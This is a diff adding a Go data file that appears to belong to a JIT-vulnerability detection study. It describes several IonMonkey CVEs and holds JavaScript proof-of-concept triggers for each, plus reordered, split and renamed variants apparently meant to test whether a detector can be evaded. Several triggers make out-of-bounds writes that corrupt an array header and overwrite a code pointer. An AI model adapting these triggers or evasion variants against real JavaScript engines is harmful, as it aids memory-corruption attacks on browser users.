@@ -1,0 +1,471 @@
+package vulndb
+
+// The demonstrator codes. Shared structure:
+//
+//   - `target` is always the first declared function (index 1), so payload
+//     exploits overwrite code-pointer cell __codebase()+1.
+//   - TRAIN = 2000 exceeds the default Ion threshold (1500), so the hot
+//     function is compiled with the buggy pass pipeline before the
+//     triggering call.
+//   - Payload exploits guard the final corruption steps on observable
+//     success (victim.length changed), so that on a sound (or protected)
+//     engine the script completes cleanly.
+
+var vuln17026 = Vuln{
+	CVE:         "CVE-2019-17026",
+	Engine:      "IonMonkey",
+	CVSS:        8.8,
+	HostPass:    "GVN",
+	MatchPasses: []string{"GVN"},
+	Outcome:     OutcomePayload,
+	Reported:    "2019-12-30",
+	Patched:     "2020-01-08",
+	Description: "GVN keys initializedlength only by memory epoch, merging the lengths of different arrays; a bounds check against the large array guards a store into the small one, giving a linear OOB write that corrupts the adjacent array's length header.",
+	Demonstrator: `
+function target() { return 1; }
+function oob(a, b, idx, v) {
+  var t = b[idx * 2] + b[idx + 3];
+  a[idx] = v * 2;
+  a[idx + 1] = t * 0 + v;
+  var s = a[idx] + a[idx + 1];
+  return t + s;
+}
+var small = new Array(8);
+var victim = new Array(8);
+var big = new Array(64);
+for (var i = 0; i < 64; i++) { big[i] = i; }
+var TRAIN = 2000;
+var sink = 0;
+for (var i = 0; i < TRAIN; i++) { sink += oob(small, big, 2, 7); }
+oob(small, big, 7, 500000);
+if (victim.length > 8) {
+  victim[__codebase() + 1 - __addrof(victim)] = 1337;
+  target();
+}
+`,
+	ReorderVariant: `
+function target() { return 1; }
+function decoy(m, q) {
+  var z = 0;
+  for (var j = 0; j < q; j++) { z += (m + j) * 3 - (j & 7); }
+  return z;
+}
+function mangled(a, b, idx, v) {
+  var s = 0;
+  var t = b[idx + 3];
+  t = t + b[idx * 2];
+  a[idx + 1] = t * 0 + v;
+  a[idx] = v * 2;
+  s = a[idx + 1] + a[idx];
+  return s + t;
+}
+var pad = 0;
+var small = new Array(8);
+var victim = new Array(8);
+var big = new Array(64);
+for (var i = 0; i < 64; i++) { big[i] = i + 1; }
+var TRAIN = 2000;
+for (var i = 0; i < TRAIN; i++) {
+  pad += decoy(i, 6);
+  pad += mangled(small, big, 2, 7);
+}
+mangled(small, big, 7, 500000);
+if (victim.length > 8) {
+  victim[__codebase() + 1 - __addrof(victim)] = 1337;
+  target();
+}
+`,
+	SplitVariant: `
+function target() { return 1; }
+function core(a, b, idx, v) {
+  var t = b[idx * 2] + b[idx + 3];
+  a[idx] = v * 2;
+  a[idx + 1] = t * 0 + v;
+  var s = a[idx] + a[idx + 1];
+  return t + s;
+}
+function wrapped(a, b, idx, v) { return core(a, b, idx, v); }
+function trainOnce(a, b, n) { return wrapped(a, b, 2, n); }
+var small = new Array(8);
+var victim = new Array(8);
+var big = new Array(64);
+for (var i = 0; i < 64; i++) { big[i] = i; }
+var TRAIN = 2000;
+var sink = 0;
+for (var i = 0; i < TRAIN; i++) { sink += trainOnce(small, big, 7); }
+wrapped(small, big, 7, 500000);
+if (victim.length > 8) {
+  victim[__codebase() + 1 - __addrof(victim)] = 1337;
+  target();
+}
+`,
+	AltImplementation: `
+function target() { return 1; }
+function exploitWrite(arr1, arr2, i, val) {
+  var probe = arr2[i] + arr2[i + 2];
+  arr1[i] = val;
+  arr1[i + 1] = val + 1;
+  var verify = arr1[i] + arr1[i + 1];
+  return probe - verify;
+}
+var hole = new Array(8);
+var neighbour = new Array(8);
+var spray = new Array(96);
+var j = 0;
+while (j < 96) { spray[j] = j * 2; j = j + 1; }
+var ROUNDS = 2200;
+var acc = 0;
+for (var k = 0; k < ROUNDS; k++) { acc += exploitWrite(hole, spray, 3, 11); }
+exploitWrite(hole, spray, 7, 777777);
+if (neighbour.length > 8) {
+  neighbour[__codebase() + 1 - __addrof(neighbour)] = 4242;
+  target();
+}
+`,
+}
+
+var vuln9810 = Vuln{
+	CVE:         "CVE-2019-9810",
+	Engine:      "IonMonkey",
+	CVSS:        8.8,
+	HostPass:    "GVN",
+	MatchPasses: []string{"GVN"},
+	Outcome:     OutcomeCrash,
+	Reported:    "2019-03-15",
+	Patched:     "2019-03-22",
+	Description: "Same root flaw as CVE-2019-17026 (the paper notes the two rely on one system bug); the read-side trigger turns the merged length into a wild out-of-bounds read — a segfault.",
+	Demonstrator: `
+function reader(a, b, idx) {
+  var t = b[idx + 1] + b[idx + 2];
+  var u = a[idx] + a[idx + 3];
+  var s = a[idx] + a[idx + 3];
+  return t + u - s;
+}
+var big = new Array(30000);
+var small = new Array(8);
+var TRAIN = 2000;
+var acc = 0;
+for (var i = 0; i < TRAIN; i++) { acc += reader(small, big, 3); }
+reader(small, big, 25000);
+`,
+	ReorderVariant: `
+function filler(n) {
+  var q = 0;
+  for (var w = 0; w < n; w++) { q += w * w - (w >> 1); }
+  return q;
+}
+function fetch(a, b, idx) {
+  var t = b[idx + 2];
+  t = t + b[idx + 1];
+  var u = a[idx + 3];
+  u = u + a[idx];
+  var s = a[idx] + a[idx + 3];
+  return u + t - s;
+}
+var big = new Array(30000);
+var small = new Array(8);
+var junk = 0;
+var TRAIN = 2000;
+for (var i = 0; i < TRAIN; i++) {
+  junk += filler(5);
+  junk += fetch(small, big, 3);
+}
+fetch(small, big, 25000);
+`,
+	SplitVariant: `
+function inner(a, b, idx) {
+  var t = b[idx + 1] + b[idx + 2];
+  var u = a[idx] + a[idx + 3];
+  var s = a[idx] + a[idx + 3];
+  return t + u - s;
+}
+function outer(a, b, idx) { return inner(a, b, idx); }
+var big = new Array(30000);
+var small = new Array(8);
+var TRAIN = 2000;
+var acc = 0;
+for (var i = 0; i < TRAIN; i++) { acc += outer(small, big, 3); }
+outer(small, big, 25000);
+`,
+}
+
+var vuln11707 = Vuln{
+	CVE:         "CVE-2019-11707",
+	Engine:      "IonMonkey",
+	CVSS:        8.8,
+	HostPass:    "FoldTests",
+	MatchPasses: []string{"FoldTests", "BoundsCheckElimination"},
+	Outcome:     OutcomePayload,
+	Reported:    "2019-04-15",
+	Patched:     "2019-05-08",
+	Description: "Dominating-test reasoning matches conditions by shape, ignoring memory dependencies: a branch re-testing an array length after a shrinking call is folded against the stale pre-shrink test, and the store's bounds check is eliminated against the stale length; the raw store lands on a freshly-planted array's header.",
+	Demonstrator: `
+function target() { return 1; }
+var planted = 0;
+function shrinkAndPlant(x) {
+  x.length = 4;
+  planted = new Array(2);
+}
+function t07(a, idx, v) {
+  if (idx >= 0) {
+    if (idx + 1 < a.length) {
+      a[idx] = v;
+      a[idx + 1] = v + 1;
+      shrinkAndPlant(a);
+      if (idx < a.length) { a[idx] = v * 2; }
+      if (idx + 1 < a.length) { a[idx + 1] = v * 3; }
+    }
+  }
+}
+var TRAIN = 2000;
+for (var i = 0; i < TRAIN; i++) { t07(new Array(8), 1, 5); }
+var aAtk = new Array(8);
+t07(aAtk, 3, 400000);
+if (planted.length > 2) {
+  planted[__codebase() + 1 - __addrof(planted)] = 1337;
+  target();
+}
+`,
+	ReorderVariant: `
+function target() { return 1; }
+var planted = 0;
+var noise = 0;
+function chaff(s) {
+  var h = 0;
+  for (var d = 0; d < s; d++) { h = h * 31 + d; }
+  return h;
+}
+function cutAndDrop(x) {
+  x.length = 4;
+  planted = new Array(2);
+}
+function hammer(a, idx, v) {
+  if (idx >= 0) {
+    if (idx + 1 < a.length) {
+      a[idx + 1] = v + 1;
+      a[idx] = v;
+      cutAndDrop(a);
+      if (idx < a.length) { a[idx] = v * 2; }
+      if (idx + 1 < a.length) { a[idx + 1] = v * 3; }
+    }
+  }
+}
+var TRAIN = 2000;
+for (var i = 0; i < TRAIN; i++) {
+  noise += chaff(4);
+  hammer(new Array(8), 1, 5);
+}
+var aAtk = new Array(8);
+hammer(aAtk, 3, 400000);
+if (planted.length > 2) {
+  planted[__codebase() + 1 - __addrof(planted)] = 1337;
+  target();
+}
+`,
+	SplitVariant: `
+function target() { return 1; }
+var planted = 0;
+function dbl(v) { return v * 2; }
+function tpl(v) { return v * 3; }
+function shrinkAndPlant(x) {
+  x.length = 4;
+  planted = new Array(2);
+}
+function squeeze(a, idx, v) {
+  var v2 = dbl(v);
+  var v3 = tpl(v);
+  if (idx >= 0) {
+    if (idx + 1 < a.length) {
+      a[idx] = v;
+      a[idx + 1] = v + 1;
+      shrinkAndPlant(a);
+      if (idx < a.length) { a[idx] = v2; }
+      if (idx + 1 < a.length) { a[idx + 1] = v3; }
+    }
+  }
+}
+var TRAIN = 2000;
+for (var i = 0; i < TRAIN; i++) { squeeze(new Array(8), 1, 5); }
+var aAtk = new Array(8);
+squeeze(aAtk, 3, 400000);
+if (planted.length > 2) {
+  planted[__codebase() + 1 - __addrof(planted)] = 1337;
+  target();
+}
+`,
+}
+
+var vuln9791 = Vuln{
+	CVE:         "CVE-2019-9791",
+	Engine:      "IonMonkey",
+	CVSS:        9.8,
+	HostPass:    "ApplyTypes",
+	MatchPasses: []string{"ApplyTypes"},
+	Outcome:     OutcomeCrash,
+	Reported:    "2019-01-10",
+	Patched:     "2019-01-18",
+	Description: "Type speculation treated as infallible: monomorphic object parameters lose their unbox guards, so an attacker-supplied number is consumed as an object pointer — a wild dereference. ApplyTypes is mandatory, so JITBULL's response is to disable JIT compilation of the matching function (scenario 3).",
+	Demonstrator: `
+function confuse(a, b, c) {
+  return a[0] * 2 + b[1] * 3 + c[2] * 5 + a.length + b.length * 7 - c.length;
+}
+var x = new Array(8);
+var y = new Array(8);
+var z = new Array(8);
+x[0] = 1; y[1] = 2; z[2] = 3;
+var TRAIN = 2000;
+var acc = 0;
+for (var i = 0; i < TRAIN; i++) { acc += confuse(x, y, z); }
+confuse(123456789.5, y, z);
+`,
+	ReorderVariant: `
+function mixer(p) { return (p * 17) % 256; }
+function typetrap(a, b, c) {
+  return c[2] * 5 + a[0] * 2 + b[1] * 3 - c.length + b.length * 7 + a.length;
+}
+var z = new Array(8);
+var y = new Array(8);
+var x = new Array(8);
+z[2] = 3; y[1] = 2; x[0] = 1;
+var TRAIN = 2000;
+var acc = 0;
+for (var i = 0; i < TRAIN; i++) {
+  acc += mixer(i);
+  acc += typetrap(x, y, z);
+}
+typetrap(987654321.25, y, z);
+`,
+	SplitVariant: `
+function combine(u, w) { return u + w; }
+function shell(a, b, c) {
+  var u = a[0] * 2 + b[1] * 3 + c[2] * 5;
+  var w = a.length + b.length * 7 - c.length;
+  return combine(u, w);
+}
+var x = new Array(8);
+var y = new Array(8);
+var z = new Array(8);
+x[0] = 1; y[1] = 2; z[2] = 3;
+var TRAIN = 2000;
+var acc = 0;
+for (var i = 0; i < TRAIN; i++) { acc += shell(x, y, z); }
+shell(123456789.5, y, z);
+`,
+}
+
+var vuln9792 = Vuln{
+	CVE:         "CVE-2019-9792",
+	Engine:      "IonMonkey",
+	CVSS:        9.8,
+	HostPass:    "Sink",
+	MatchPasses: []string{"Sink"},
+	Outcome:     OutcomeCrash,
+	Reported:    "2019-01-28",
+	Patched:     "2019-02-04",
+	Description: "The sink pass moves a length load into one branch arm although the other arm's bounds checks also use it; those checks are patched with the optimized-out magic value, which is large enough to satisfy any index — wild out-of-bounds reads follow.",
+	Demonstrator: `
+function leak(a, b, c, flag, idx) {
+  var n = a.length;
+  var m = b.length;
+  var k = c.length;
+  if (flag) { return n + m * 2 + k * 3; }
+  return a[idx] + b[idx + 1] + c[idx + 2];
+}
+var p = new Array(8);
+var q = new Array(8);
+var r = new Array(8);
+var TRAIN = 2000;
+var acc = 0;
+for (var i = 0; i < TRAIN; i++) {
+  acc += leak(p, q, r, 1, 0);
+  acc += leak(p, q, r, 0, 2);
+}
+leak(p, q, r, 0, 90000);
+`,
+}
+
+var vuln9795 = Vuln{
+	CVE:         "CVE-2019-9795",
+	Engine:      "IonMonkey",
+	CVSS:        8.8,
+	HostPass:    "AliasAnalysis",
+	MatchPasses: []string{"GVN"},
+	Outcome:     OutcomePayload,
+	Reported:    "2019-02-20",
+	Patched:     "2019-02-26",
+	Description: "Alias analysis miscategorizes setlength as an element store, so GVN merges lengths loaded before and after a shrink; the stale bounds check lets a store land in the tail reclaimed by the shrink — right on a freshly allocated array's header. The root cause lives in a mandatory pass, but the observable effect (and the neutralizing disable) is in GVN.",
+	Demonstrator: `
+function target() { return 1; }
+function stale(a, idx, v) {
+  var t = a[idx] + a[idx + 1];
+  a.length = 4;
+  var w = new Array(6);
+  a[idx] = v;
+  a[idx + 1] = v + 1;
+  return w;
+}
+var TRAIN = 2000;
+var keep = 0;
+for (var i = 0; i < TRAIN; i++) { keep = stale(new Array(12), 1, 9); }
+var w = stale(new Array(12), 4, 600000);
+if (w.length > 6) {
+  w[__codebase() + 1 - __addrof(w)] = 1337;
+  target();
+}
+`,
+}
+
+var vuln9813 = Vuln{
+	CVE:         "CVE-2019-9813",
+	Engine:      "IonMonkey",
+	CVSS:        9.8,
+	HostPass:    "RangeAnalysis",
+	MatchPasses: []string{"BoundsCheckElimination"},
+	Outcome:     OutcomeCrash,
+	Reported:    "2019-03-18",
+	Patched:     "2019-03-22",
+	Description: "Range analysis widens a `<=` loop bound as if it were `<`, so the induction variable is believed to stay one below the length; bounds check elimination removes the check the final iteration needs, and the one-past-the-end read walks off the last allocation — a segfault.",
+	Demonstrator: `
+function sumle(a) {
+  var s = 0;
+  for (var i = 0; i <= a.length; i++) { s = s + a[i]; }
+  return s;
+}
+var TRAIN = 2000;
+var acc = 0;
+for (var i = 0; i < TRAIN; i++) { acc += sumle(new Array(8)); }
+acc += sumle(new Array(8));
+`,
+}
+
+var vuln26952 = Vuln{
+	CVE:         "CVE-2020-26952",
+	Engine:      "IonMonkey",
+	CVSS:        9.8,
+	HostPass:    "RangeAnalysis",
+	MatchPasses: []string{"BoundsCheckElimination"},
+	Outcome:     OutcomePayload,
+	Reported:    "2020-09-27",
+	Patched:     "2020-10-02",
+	Description: "A symbolic range bound is propagated unscaled through a multiplication (and, in the same window, loop-invariant loads are hoisted across calls), so scaled indexes are believed to stay below the array length; the eliminated check lets strided stores run past the array into its neighbour's header.",
+	Demonstrator: `
+function target() { return 1; }
+function spread(a, n, v) {
+  for (var i = 0; i < a.length; i++) {
+    if (i >= n) { break; }
+    a[i * 2] = v + i;
+  }
+  return a[0];
+}
+var TRAIN = 2000;
+var acc = 0;
+for (var i = 0; i < TRAIN; i++) { acc += spread(new Array(8), 3, 1); }
+var aAtk = new Array(8);
+var victim = new Array(8);
+spread(aAtk, 8, 700000);
+if (victim.length > 8) {
+  victim[__codebase() + 1 - __addrof(victim)] = 1337;
+  target();
+}
+`,
+}
